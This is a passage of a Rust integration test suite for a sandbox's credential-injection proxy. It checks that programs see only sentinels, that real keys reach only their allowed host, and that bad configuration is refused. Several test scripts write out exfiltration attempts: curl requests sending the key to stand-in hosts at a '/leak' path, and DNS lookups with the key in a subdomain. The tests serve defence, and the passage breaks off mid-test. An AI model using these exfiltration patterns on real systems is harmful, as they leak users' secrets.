#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Credential injection end to end (`[credentials]`, docs/credentials.md): `sandpit
//! run` as the unprivileged test user, with loopback HTTPS servers whose test CA
//! sandpit trusts through `network.tls.extra_roots` and whose names map to loopback
//! through `[network.resolve]`.
//!
//! - inside, the credential's variable holds the run's sentinel and the real value is
//!   nowhere (environment, /proc, the run directory, the source file);
//! - curl, Python and Node send the sentinel to the credential's host and the server
//!   receives the real value, the clients trusting the run's CA through the variables
//!   sandpit sets;
//! - the sentinel sent anywhere else (plain HTTP, CONNECT, another credential's
//!   terminated host) is denied, that server receives nothing, the log names it;
//! - the real value is in no log and on no stderr;
//! - a TLS host that is no credential's keeps its own TLS end to end;
//! - bad configuration is refused with file:line, and the command does not start.
mod agents_support;
mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use common::sink::Sink;
use common::{text, TestHome};

const REAL: &str = "sk-REAL-openai-7f3a9c1e5b2d4";
const REAL_SECOND: &str = "tok-REAL-second-88e1c0d4a2";

/// A HOME outside /tmp (as in everyday.rs: under /tmp sandpit shows it read-only).
fn home() -> TestHome {
    TestHome::new_in("/var/tmp")
}

/// The test CA and a server certificate for each name.
struct TestCa {
    pem: String,
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
}

impl TestCa {
    fn new() -> TestCa {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut p = rcgen::CertificateParams::default();
        p.distinguished_name = rcgen::DistinguishedName::new();
        p.distinguished_name
            .push(rcgen::DnType::CommonName, "sandpit test CA");
        p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        p.key_usages = vec![
            rcgen::KeyUsagePurpose::KeyCertSign,
            rcgen::KeyUsagePurpose::DigitalSignature,
        ];
        let cert = p.self_signed(&key).unwrap();
        TestCa {
            pem: cert.pem(),
            issuer: rcgen::Issuer::new(p, key),
        }
    }

    fn server_config(&self, name: &str) -> Arc<rustls::ServerConfig> {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut p = rcgen::CertificateParams::new(vec![name.to_string()]).unwrap();
        p.distinguished_name = rcgen::DistinguishedName::new();
        p.distinguished_name.push(rcgen::DnType::CommonName, name);
        p.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
        let cert = p.signed_by(&key, &self.issuer).unwrap();
        let der = rustls_pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into());
        let cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
            rustls::crypto::ring::default_provider(),
        ))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![cert.der().clone()], der)
        .unwrap();
        Arc::new(cfg)
    }
}

/// A loopback HTTPS server: records each request (head and body) and answers
/// `tls:LABEL`, closing the connection.
struct TlsServer {
    port: u16,
    /// Connections accepted (the proxy dials before a client's first bytes).
    #[allow(dead_code)]
    connections: Arc<AtomicUsize>,
    requests: Arc<Mutex<Vec<String>>>,
}

impl TlsServer {
    fn start(ip: &str, cfg: Arc<rustls::ServerConfig>, label: &'static str) -> TlsServer {
        let l = TcpListener::bind((ip, 0)).unwrap();
        let port = l.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let (c, r) = (connections.clone(), requests.clone());
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(s) = s else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let (cfg, r) = (cfg.clone(), r.clone());
                std::thread::spawn(move || {
                    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
                        .unwrap();
                    let conn = rustls::ServerConnection::new(cfg).unwrap();
                    let mut tls = rustls::StreamOwned::new(conn, s);
                    let mut got = Vec::new();
                    let mut buf = [0u8; 16384];
                    // The head, then a Content-Length or chunked body.
                    let mut body: Option<Vec<u8>> = None;
                    loop {
                        let n = match tls.read(&mut buf) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => n,
                        };
                        got.extend_from_slice(&buf[..n]);
                        let Some(end) = find(&got, b"\r\n\r\n") else {
                            continue;
                        };
                        let head = String::from_utf8_lossy(&got[..end]).to_ascii_lowercase();
                        if head.contains("transfer-encoding: chunked") {
                            if let Some(b) = dechunk(&got[end + 4..]) {
                                body = Some(b);
                                break;
                            }
                            continue;
                        }
                        let len: usize = head
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .map(|v| v.trim().parse().unwrap())
                            .unwrap_or(0);
                        if got.len() >= end + 4 + len {
                            break;
                        }
                    }
                    // Recorded with a chunked body decoded.
                    if let (Some(b), Some(end)) = (&body, find(&got, b"\r\n\r\n")) {
                        got.truncate(end + 4);
                        got.extend_from_slice(b);
                    }
                    r.lock()
                        .unwrap()
                        .push(String::from_utf8_lossy(&got).into_owned());
                    if got.is_empty() {
                        return;
                    }
                    let head_end = find(&got, b"\r\n\r\n").unwrap_or(got.len());
                    let echo =
                        format!("tls:{label}\n{}", String::from_utf8_lossy(&got[..head_end]));
                    let route = |r: &str| {
                        find(&got, format!(" /{r} ").as_bytes()).is_some()
                            || find(&got, format!(" /{r}?").as_bytes()).is_some()
                    };
                    let stream = |tls: &mut rustls::StreamOwned<
                        rustls::ServerConnection,
                        std::net::TcpStream,
                    >,
                                  chunks: Vec<Vec<u8>>| {
                        let _ = tls.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
                        for c in chunks {
                            let _ = tls.write_all(format!("{:x}\r\n", c.len()).as_bytes());
                            let _ = tls.write_all(&c);
                            let _ = tls.write_all(b"\r\n");
                            let _ = tls.flush();
                            // The next chunk comes in another read of the proxy's.
                            std::thread::sleep(std::time::Duration::from_millis(300));
                        }
                        let _ = tls.write_all(b"0\r\n\r\n");
                    };
                    let (coding, body): (&str, Vec<u8>) = if route("echo") {
                        ("", echo.into_bytes())
                    } else if route("gzip-echo") {
                        ("gzip", compress("gzip", echo.as_bytes()))
                    } else if route("deflate-echo") {
                        ("deflate", compress("deflate", echo.as_bytes()))
                    } else if route("br-echo") {
                        ("br", compress("br", echo.as_bytes()))
                    } else if route("zstd-echo") {
                        ("zstd", compress("zstd", echo.as_bytes()))
                    } else if route("odd-echo") {
                        ("compress", echo.into_bytes())
                    } else if route("encoded") {
                        let mut b = format!("tls:{label}\n");
                        for v in [REAL, THIRD, CONTROL] {
                            for (k, f) in encoded_forms(v) {
                                b.push_str(&format!("{k}={f}\n"));
                            }
                        }
                        ("", b.into_bytes())
                    } else if route("split") {
                        let (a, z) = REAL.split_at(10);
                        stream(
                            &mut tls,
                            vec![
                                format!("tls:{label} split {a}").into_bytes(),
                                format!("{z} end\n").into_bytes(),
                            ],
                        );
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    } else if route("big-split") {
                        let (a, z) = REAL.split_at(10);
                        let mut first = vec![b'a'; 1536 * 1024];
                        first.extend_from_slice(a.as_bytes());
                        stream(
                            &mut tls,
                            vec![first, format!("{z}bbbb\nend\n").into_bytes()],
                        );
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    } else {
                        ("", format!("tls:{label}").into_bytes())
                    };
                    let ce = if coding.is_empty() {
                        String::new()
                    } else {
                        format!("Content-Encoding: {coding}\r\n")
                    };
                    let resp = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n{ce}Connection: close\r\n\r\n",
                        body.len()
                    );
                    let _ = tls.write_all(resp.as_bytes());
                    let _ = tls.write_all(&body);
                    tls.conn.send_close_notify();
                    let _ = tls.flush();
                });
            }
        });
        TlsServer {
            port,
            connections,
            requests,
        }
    }
    fn received(&self) -> String {
        self.requests.lock().unwrap().join("\n----\n")
    }
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

/// A chunked body, once its last chunk is in.
fn dechunk(mut b: &[u8]) -> Option<Vec<u8>> {
    let mut out = vec![];
    loop {
        let eol = find(b, b"\r\n")?;
        let line = std::str::from_utf8(&b[..eol]).ok()?;
        let size = usize::from_str_radix(line.split(';').next()?.trim(), 16).ok()?;
        if size == 0 {
            return Some(out);
        }
        let data = b.get(eol + 2..eol + 2 + size)?;
        out.extend_from_slice(data);
        b = b.get(eol + 2 + size + 2..)?;
    }
}

/// `data` in an HTTP content coding, by the crates sandpit decodes with (flate2,
/// ruzstd) or their encoder (brotli).
fn compress(coding: &str, data: &[u8]) -> Vec<u8> {
    match coding {
        "gzip" => {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        }
        "deflate" => {
            let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        }
        "br" => {
            let mut out = Vec::new();
            brotli::BrotliCompress(&mut &data[..], &mut out, &Default::default()).unwrap();
            out
        }
        "zstd" => {
            ruzstd::encoding::compress_to_vec(data, ruzstd::encoding::CompressionLevel::Fastest)
        }
        _ => unreachable!(),
    }
}

/// A value with reserved characters (percent-encoders differ on them) whose base64
/// holds `+` and `/` at every alignment (the standard and URL-safe forms differ).
const THIRD: &str = "tk/THIRD+real=9a:Zq8w~~~~";
/// Encoded like the secrets, but no secret: passed as it is.
const CONTROL: &str = "ctl/not+secret=9a:Zq8w~~~~";

/// The forms of `v` a server may echo: base64 (standard, URL-safe) of the value inside
/// a longer string at each alignment, hex (lower, upper), percent-encoded (every
/// reserved character, all but `/` as Python's `quote`, every byte; upper and lower).
fn encoded_forms(v: &str) -> Vec<(String, String)> {
    use base64::Engine;
    let mut out = vec![];
    for (name, e) in [
        ("b64std", base64::engine::general_purpose::STANDARD),
        ("b64url", base64::engine::general_purpose::URL_SAFE),
    ] {
        for k in 0..3 {
            let mut d = b"xyz"[..k].to_vec();
            d.extend_from_slice(v.as_bytes());
            d.extend_from_slice(b"-and-more");
            out.push((format!("{name}{k}"), e.encode(d)));
        }
    }
    let hex: String = v.bytes().map(|b| format!("{b:02x}")).collect();
    out.push(("hexlower".into(), hex.clone()));
    out.push(("hexupper".into(), hex.to_ascii_uppercase()));
    let pct = |keep: &dyn Fn(u8) -> bool, upper: bool| -> String {
        v.bytes()
            .map(|b| {
                if keep(b) {
                    (b as char).to_string()
                } else if upper {
                    format!("%{b:02X}")
                } else {
                    format!("%{b:02x}")
                }
            })
            .collect()
    };
    let unreserved = |b: u8| b.is_ascii_alphanumeric() || b"-._~".contains(&b);
    for upper in [false, true] {
        out.push((format!("pct{upper}"), pct(&unreserved, upper)));
        out.push((
            format!("pctpy{upper}"),
            pct(&|b| unreserved(b) || b == b'/', upper),
        ));
        out.push((format!("pctall{upper}"), pct(&|_| false, upper)));
    }
    out
}

/// The text each encoded form of the output decodes to (what a client would get).
fn decode_form(k: &str, f: &str) -> Vec<u8> {
    use base64::Engine;
    if k.starts_with("b64std") {
        base64::engine::general_purpose::STANDARD
            .decode(f)
            .unwrap_or_default()
    } else if k.starts_with("b64url") {
        base64::engine::general_purpose::URL_SAFE
            .decode(f)
            .unwrap_or_default()
    } else if k.starts_with("hex") {
        (0..f.len() / 2)
            .filter_map(|i| u8::from_str_radix(&f[2 * i..2 * i + 2], 16).ok())
            .collect()
    } else {
        let b = f.as_bytes();
        let mut out = vec![];
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'%' && i + 3 <= b.len() {
                out.push(u8::from_str_radix(&f[i + 1..i + 3], 16).unwrap_or(b'?'));
                i += 3;
            } else {
                out.push(b[i]);
                i += 1;
            }
        }
        out
    }
}

/// The servers and the user's config of one test.
struct World {
    h: TestHome,
    inject: TlsServer,
    second: TlsServer,
    passthru: TlsServer,
    other: Sink,
}

impl World {
    fn new() -> World {
        World::with(|_, _, _| String::new())
    }

    /// With more config after the common part, given the inject, passthru and
    /// other servers' ports.
    fn with(extra: impl Fn(u16, u16, u16) -> String) -> World {
        let h = home();
        let ca = TestCa::new();
        let inject = TlsServer::start("127.0.0.3", ca.server_config("inject.test"), "inject");
        let second = TlsServer::start("127.0.0.4", ca.server_config("second.test"), "second");
        let passthru = TlsServer::start("127.0.0.5", ca.server_config("passthru.test"), "passthru");
        let other = Sink::start("127.0.0.6", "other");
        h.write(&h.home().join("test-ca.pem"), &ca.pem);
        h.write(&h.home().join(".openai-key"), &format!("{REAL}\n"));
        // The agent's own auth file, which holds the key too (credentials.openai.file).
        h.write(
            &h.home().join(".tool/auth.json"),
            &format!("{{\"api_key\": \"{REAL}\", \"user\": \"me\"}}\n"),
        );
        let config = format!(
            r#"[network]
allow = ["inject.test:{}", "second.test:{}", "passthru.test:{}", "other.test:{}", "*.wild.test"]
[network.resolve]
"inject.test" = "127.0.0.3"
"second.test" = "127.0.0.4"
"passthru.test" = "127.0.0.5"
"other.test" = "127.0.0.6"
[network.tls]
extra_roots = ["~/test-ca.pem"]

[credentials.openai]
env = "OPENAI_API_KEY"
source = "file:~/.openai-key"
hosts = ["inject.test"]
file = "~/.tool/auth.json"
body = true

[credentials.second]
env = "SECOND_TOKEN"
source = "env:REAL_SECOND_TOKEN"
hosts = ["second.test"]
"#,
            inject.port, second.port, passthru.port, other.port
        ) + &extra(inject.port, passthru.port, other.port);
        h.user_config(&config);
        World {
            h,
            inject,
            second,
            passthru,
            other,
        }
    }

    /// `sandpit run -- sh -c SCRIPT` with the second credential's source variable
    /// in sandpit's environment.
    fn run(&self, script: &str) -> std::process::Output {
        self.sandpit()
            .args(["run", "--", "sh", "-c", script])
            .output()
            .unwrap()
    }

    /// `sandpit` in this world: the second credential's source variable set.
    fn sandpit(&self) -> std::process::Command {
        let mut c = self.h.sandpit();
        c.env("REAL_SECOND_TOKEN", REAL_SECOND);
        c
    }

    /// Every log of this home's runs, as text.
    fn logs(&self) -> String {
        let mut all = String::new();
        let dir = self.h.home().join(".sandpit/logs");
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            all.push_str(&std::fs::read_to_string(e.path()).unwrap_or_default());
        }
        all
    }

    /// The real values appear in no log of the run and not in its output.
    fn assert_no_real_value(&self, o: &std::process::Output) {
        let logs = self.logs();
        assert!(!logs.is_empty(), "the run wrote a log");
        for real in [REAL, REAL_SECOND] {
            assert!(!logs.contains(real), "real value in the logs:\n{logs}");
            assert!(
                !String::from_utf8_lossy(&o.stderr).contains(real)
                    && !String::from_utf8_lossy(&o.stdout).contains(real),
                "real value in the output:\n{}",
                text(o)
            );
        }
    }
}

/// The sentinel a run's output shows for `var` (`VAR=sentinel` lines).
fn sentinel_in(out: &str, var: &str) -> String {
    out.lines()
        .find_map(|l| l.strip_prefix(&format!("{var}=")))
        .unwrap_or_else(|| panic!("no {var}= line in {out}"))
        .to_string()
}

#[test]
fn the_sandbox_sees_a_sentinel_and_the_server_the_real_value() {
    let w = World::new();
    let port = w.inject.port;
    let script = format!(
        r#"
echo "OPENAI_API_KEY=$OPENAI_API_KEY"
echo "SECOND_TOKEN=$SECOND_TOKEN"
echo "SOURCE_VAR=${{REAL_SECOND_TOKEN:-unset}}"
# The real values are nowhere inside: environment, /proc, the run directory, the file.
cat /proc/self/environ | tr '\0' '\n' | grep -c REAL || true
grep -rc REAL "$HOME/.sandpit/run" 2>/dev/null | grep -v ':0$' || echo run-dir-clean
cat "$HOME/.openai-key" >/dev/null 2>&1 && echo KEY-FILE-READ || echo key-file-unreadable
# The auth file the agent reads shows the sentinel in place of the key.
echo "AUTH=$(cat "$HOME/.tool/auth.json")"

sh -c 'env | grep -c REAL' || true
# Withheld by the defaults (*_API_KEY), but a sentinel: spawned programs keep it.
/bin/sh -c 'echo "CHILD=$OPENAI_API_KEY"'
# curl through HTTPS_PROXY (CONNECT), trusting the run's CA through CURL_CA_BUNDLE.
curl -sS --max-time 20 "https://inject.test:{port}/v1/models?key=$OPENAI_API_KEY" \
  -H "Authorization: Bearer $OPENAI_API_KEY" -H "x-api-key: $OPENAI_API_KEY" \
  -H "x-multi: first" -H "x-multi: k=$OPENAI_API_KEY" && echo
# A body with the sentinel.
curl -sS --max-time 20 "https://inject.test:{port}/v1/chat" -H 'Content-Type: application/json' \
  --data "{{\"k\":\"$OPENAI_API_KEY\",\"who\":\"curl-body\"}}" && echo
# A sentinel in the path stays a sentinel (a path names what the server stores).
curl -sS --max-time 20 "https://inject.test:{port}/files/$OPENAI_API_KEY" -H "Authorization: Bearer $OPENAI_API_KEY" -o /dev/null
# A chunked body: read whole, rewritten, sent with its length.
curl -sS --max-time 20 "https://inject.test:{port}/v1/chunked" -H 'Transfer-Encoding: chunked' \
  --data "chunked=$OPENAI_API_KEY" && echo
# A server that echoes the key back hands the sandbox the sentinel, not the value.
curl -sS --max-time 20 "https://inject.test:{port}/echo" -H "Authorization: Bearer $OPENAI_API_KEY" | grep -i '^authorization' | sed 's/^/ECHO /'
# Python (urllib: HTTPS_PROXY, SSL_CERT_FILE).
/usr/bin/python3 -c '
import os, urllib.request
r = urllib.request.Request("https://inject.test:{port}/py", headers={{"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}})
print(urllib.request.urlopen(r, timeout=20).read().decode())
'
# Node (no proxy variables read: the interposer redirects the connect; NODE_EXTRA_CA_CERTS).
node -e '
const https = require("https");
https.get("https://inject.test:{port}/node", {{headers: {{authorization: "Bearer " + process.env.OPENAI_API_KEY}}}}, r => {{
  let b = ""; r.on("data", d => b += d); r.on("end", () => console.log(b));
}}).on("error", e => {{ console.log("node error " + e.message); }});
'
"#
    );
    let o = w.run(&script);
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let sentinel = sentinel_in(&out, "OPENAI_API_KEY");
    assert!(
        sentinel.starts_with("sandpit-sentinel-openai-") && sentinel.len() > 40,
        "{t}"
    );
    let second = sentinel_in(&out, "SECOND_TOKEN");
    assert!(second.starts_with("sandpit-sentinel-second-"), "{t}");
    assert_eq!(sentinel_in(&out, "SOURCE_VAR"), "unset", "{t}");
    assert_eq!(sentinel_in(&out, "CHILD"), sentinel, "{t}");
    assert!(out.contains("run-dir-clean"), "{t}");
    assert!(out.contains("key-file-unreadable"), "{t}");
    assert_eq!(
        sentinel_in(&out, "AUTH"),
        format!("{{\"api_key\": \"{sentinel}\", \"user\": \"me\"}}"),
        "{t}"
    );
    // The host's file is untouched.
    assert!(std::fs::read_to_string(w.h.home().join(".tool/auth.json"))
        .unwrap()
        .contains(REAL));
    // grep -c printed 0 twice (environ and a child's env).
    assert_eq!(out.lines().filter(|l| *l == "0").count(), 2, "{t}");
    // Every client got the server's answer.
    assert_eq!(out.matches("tls:inject").count(), 5, "{t}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("ECHO ") && l.contains(&sentinel)),
        "the echoed key came back as the sentinel: {t}"
    );

    let got = w.inject.received();
    assert!(
        got.contains(&format!("authorization: Bearer {REAL}"))
            || got.contains(&format!("Authorization: Bearer {REAL}")),
        "{got}"
    );
    assert!(got.contains(&format!("key={REAL}")), "{got}");
    // Every value of a repeated header is kept, each rewritten on its own.
    let lower = got.to_ascii_lowercase();
    assert!(lower.contains("x-multi: first"), "{got}");
    assert!(
        lower.contains(&format!("x-multi: k={}", REAL.to_ascii_lowercase())),
        "{got}"
    );
    assert!(
        got.to_ascii_lowercase()
            .contains(&format!("x-api-key: {}", REAL.to_ascii_lowercase())),
        "{got}"
    );
    assert!(
        got.contains(&format!("{{\"k\":\"{REAL}\",\"who\":\"curl-body\"}}")),
        "{got}"
    );
    assert!(got.contains(&format!("chunked={REAL}")), "{got}");
    assert!(got.contains("GET /py "), "{got}");
    assert!(got.contains("GET /node "), "{got}");
    // No sentinel reached the server but the one in the path.
    assert!(
        got.contains(&format!("GET /files/{sentinel} "))
            && !got.contains(&format!("/files/{REAL}")),
        "{got}"
    );
    assert_eq!(got.matches("sandpit-sentinel-").count(), 1, "{got}");
    w.assert_no_real_value(&o);
}

#[test]
fn a_sentinel_sent_anywhere_else_is_denied() {
    let w = World::new();
    let (op, sp) = (w.other.port, w.second.port);
    let script = format!(
        r#"
# Positive control: the same requests without the sentinel go through.
curl -sS --max-time 20 "http://other.test:{op}/ok" -H "Authorization: Bearer nothing"; echo
curl -sS --max-time 20 "https://second.test:{sp}/ok" -H "Authorization: Bearer $SECOND_TOKEN"; echo
# Without body = true, a body keeps its own credential's sentinel (the server may
# show a body: an issue, a gist).
curl -sS --max-time 20 "https://second.test:{sp}/post" -H "Authorization: Bearer $SECOND_TOKEN" --data "body=$SECOND_TOKEN"; echo
# The openai sentinel to other hosts.
curl -sS --max-time 20 -o /dev/null -w 'plain %{{http_code}}\n' "http://other.test:{op}/leak" -H "Authorization: Bearer $OPENAI_API_KEY"
curl -sS --max-time 20 -o /dev/null -w 'tunnel %{{http_code}}\n' -p "http://other.test:{op}/leak?k=$OPENAI_API_KEY"
curl -sS --max-time 20 -o /dev/null -w 'other-cred %{{http_code}}\n' "https://second.test:{sp}/leak" -H "Authorization: Bearer $OPENAI_API_KEY"
curl -sS --max-time 20 -o /dev/null -w 'connect %{{http_code}}\n' "https://$OPENAI_API_KEY.other.test:{op}/" || echo connect-refused
# A DNS query through a wildcard allow.
/usr/bin/python3 -c 'import os, socket; socket.getaddrinfo(os.environ["OPENAI_API_KEY"] + ".wild.test", 443)' 2>/dev/null && echo dns-answered || echo dns-refused
/usr/bin/python3 -c 'import socket; socket.getaddrinfo("fine.wild.test", 443)' 2>/dev/null; echo dns-control-done
true
"#
    );
    let o = w.run(&script);
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    // Positive controls.
    assert!(out.contains("sink:other"), "{t}");
    assert!(out.contains("tls:second"), "{t}");
    let other = w.other.received();
    assert!(other.contains("GET /ok "), "{other}");
    let second = w.second.received();
    assert!(
        second.contains(&format!("Bearer {REAL_SECOND}")),
        "{second}"
    );
    // Denied, and nothing of them reached a server.
    for line in ["plain 403", "tunnel 403", "other-cred 403"] {
        assert!(out.contains(line), "{line}: {t}");
    }
    assert!(!out.contains("connect 200"), "{t}");
    assert!(out.contains("dns-refused"), "{t}");
    assert!(!other.contains("/leak"), "{other}");
    assert!(!other.contains("sandpit-sentinel"), "{other}");
    assert!(!second.contains("/leak"), "{second}");
    assert!(!second.contains("sandpit-sentinel-openai"), "{second}");
    assert!(second.contains("body=sandpit-sentinel-second-"), "{second}");
    assert!(!second.contains(&format!("body={REAL_SECOND}")), "{second}");
    assert!(!second.contains(REAL), "{second}");
    // The log names the credential and the host; the summary shows the denials.
    let logs = w.logs();
    assert!(
        logs.contains("sentinel for credential openai sent to other.test"),
        "{logs}"
    );
    assert!(
        logs.contains("sentinel for credential openai sent to second.test"),
        "{logs}"
    );
    assert!(
        logs.contains("sentinel for credential openai sent to sandpit-sentinel-openai-")
            && logs.contains(".wild.test"),
        "the DNS query is named: {logs}"
    );
    // The control query was decided by the policy (allowed), not as a sentinel.
    assert!(logs.contains("fine.wild.test"), "{logs}");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("other.test"),
        "the run's summary names the refused host: {t}"
    );
    w.assert_no_real_value(&o);
}

#[test]
fn other_tls_hosts_keep_their_own_tls() {
    let w = World::new();
    let pp = w.passthru.port;
    // Only the test CA is trusted: a certificate of sandpit's run CA would fail.
    let script = format!(
        r#"
curl -sS --max-time 20 --cacert "$HOME/test-ca.pem" "https://passthru.test:{pp}/own" && echo
curl -sS --max-time 20 --cacert "$HOME/test-ca.pem" -o /dev/null "https://inject.test:{}/x" 2>/dev/null && echo inject-with-test-ca-only || echo inject-terminated
"#,
        w.inject.port
    );
    let o = w.run(&script);
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("tls:passthru"), "passed through: {t}");
    assert!(w.passthru.received().contains("GET /own "), "{t}");
    // The control: the inject host is terminated, so trusting the test CA alone fails.
    assert!(out.contains("inject-terminated"), "{t}");
    // (The proxy dials before the client's first bytes; no request reached it.)
    assert!(!w.inject.received().contains("GET"), "{t}");
}

/// `sandpit run` with `config` as the user's config (and `project` as the project's);
/// the run must fail before the command starts, naming `expect`.
fn refused(config: &str, project: Option<&str>, expect: &[&str]) {
    let h = home();
    h.user_config(config);
    if let Some(p) = project {
        h.write(&h.workspace().join(".sandpit.toml"), p);
    }
    let canary = h.workspace().join("ran");
    let o = h
        .sandpit()
        .args(["run", "--", "sh", "-c", "touch ran"])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(!o.status.success(), "{t}");
    assert!(!canary.exists(), "the command ran: {t}");
    for e in expect {
        assert!(t.contains(e), "{e:?} not in: {t}");
    }
}

#[test]
fn bad_credentials_are_refused_before_the_command_starts() {
    let good = "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"env:SANDPIT_TEST_KEY\"\nhosts = [\"inject.test\"]\n";
    // Positive control: a good table with its source present runs.
    let h = home();
    h.user_config(good);
    let o = h
        .sandpit()
        .env("SANDPIT_TEST_KEY", "value-1234567890")
        .args(["run", "--", "sh", "-c", "touch ran; echo $OPENAI_API_KEY"])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", text(&o));
    assert!(h.workspace().join("ran").exists());
    assert!(String::from_utf8_lossy(&o.stdout).contains("sandpit-sentinel-openai-"));

    // A required source is missing: named with its line, nothing runs (without
    // `required`, the credential is skipped: the test below).
    refused(
        &format!("{good}required = true\n"),
        None,
        &["credentials.openai", "config.toml:1", "SANDPIT_TEST_KEY"],
    );
    refused(
        "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"file:~/nope\"\nhosts = [\"inject.test\"]\nrequired = true\n",
        None,
        &["credentials.openai", "nope"],
    );
    refused(
        "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"command:exit 3\"\nhosts = [\"inject.test\"]\n",
        None,
        &["credentials.openai", "exit 3"],
    );
    // A file to mask that does not hold the value: named, nothing runs.
    let h2 = home();
    h2.write(&h2.home().join("auth.json"), "{\"api_key\": \"other\"}");
    h2.user_config(&format!("{good}file = \"~/auth.json\"\n"));
    let o = h2
        .sandpit()
        .env("SANDPIT_TEST_KEY", "value-1234567890")
        .args(["run", "--", "sh", "-c", "touch ran"])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(
        !o.status.success() && !h2.workspace().join("ran").exists(),
        "{t}"
    );
    assert!(
        t.contains("credentials.openai") && t.contains("does not hold the value"),
        "{t}"
    );
    assert!(!t.contains("value-1234567890"), "{t}");
    // Shape errors, each at its line.
    refused(
        "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"env:K\"\nhosts = [\"inject.test\"]\nheaders = [\"x\"]\n",
        None,
        &["config.toml:5", "unknown field"],
    );
    refused(
        "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"env:K\"\nhosts = []\n",
        None,
        &["config.toml:4", "hosts is empty"],
    );
    refused(
        "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"vault:K\"\nhosts = [\"a.test\"]\n",
        None,
        &["config.toml:3", "unknown scheme", "env:NAME"],
    );
    refused(
        "[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"env:K\"\nhosts = [\"*.openai.com\"]\n",
        None,
        &["config.toml:4", "exact host name"],
    );
    refused(
        "[network]\nmode = \"unrestricted\"\n[credentials.openai]\nenv = \"OPENAI_API_KEY\"\nsource = \"env:K\"\nhosts = [\"a.test\"]\n",
        None,
        &["unrestricted"],
    );
    // A project file may not add a credential, nor trust roots.
    refused(
        "",
        Some(good),
        &[
            ".sandpit.toml:1",
            "[credentials] cannot be in a project file",
        ],
    );
    refused(
        "",
        Some("[network.tls]\nextra_roots = [\"ca.pem\"]\n"),
        &[".sandpit.toml:1", "network.tls"],
    );
}

#[test]
fn config_and_explain_name_credentials_never_values() {
    let w = World::new();
    let o = w.sandpit().arg("config").output().unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    for want in [
        "[credentials.openai]",
        "env = \"OPENAI_API_KEY\"",
        "source = \"file:",
        "hosts = [\"inject.test\"]",
        "file = \"~/.tool/auth.json\"",
        "body = true",
        "[credentials.second]",
        "source = \"env:REAL_SECOND_TOKEN\"",
        "extra_roots",
    ] {
        assert!(t.contains(want), "{want:?} not in {t}");
    }
    let o = w.sandpit().args(["config", "--json"]).output().unwrap();
    let json = text(&o);
    assert!(json.contains("\"credentials\""), "{json}");
    for real in [REAL, REAL_SECOND] {
        assert!(!t.contains(real) && !json.contains(real), "{t}\n{json}");
    }
    // explain: the inject host is terminated, another host is not.
    let explain = |host: String| {
        let o =
            w.h.sandpit()
                .args(["explain", "connect", &host])
                .output()
                .unwrap();
        text(&o)
    };
    let e = explain(format!("inject.test:{}", w.inject.port));
    assert!(
        e.contains("TLS terminated") && e.contains("credentials.openai"),
        "{e}"
    );
    let e = explain(format!("passthru.test:{}", w.passthru.port));
    assert!(e.contains("ALLOW") && !e.contains("TLS terminated"), "{e}");
    // env: the sentinel variable reaches spawned programs; the source does not.
    let o =
        w.h.sandpit()
            .args(["explain", "env", "REAL_SECOND_TOKEN"])
            .output()
            .unwrap();
    assert!(text(&o).contains("DENY"), "{}", text(&o));
}

#[test]
fn method_and_path_rules_hold_where_sandpit_reads_the_request() {
    let w = World::with(|ip, _, op| {
        format!(
            "[network.http]\nallow = [\"GET https://inject.test:{ip}/v1/**\", \"POST https://inject.test:{ip}/v1/chat\"]\nblock = [\"* http://other.test:{op}/admin/**\"]\n"
        )
    });
    let (ip, op) = (w.inject.port, w.other.port);
    let o = w.h.sandpit().arg("config").output().unwrap();
    assert!(
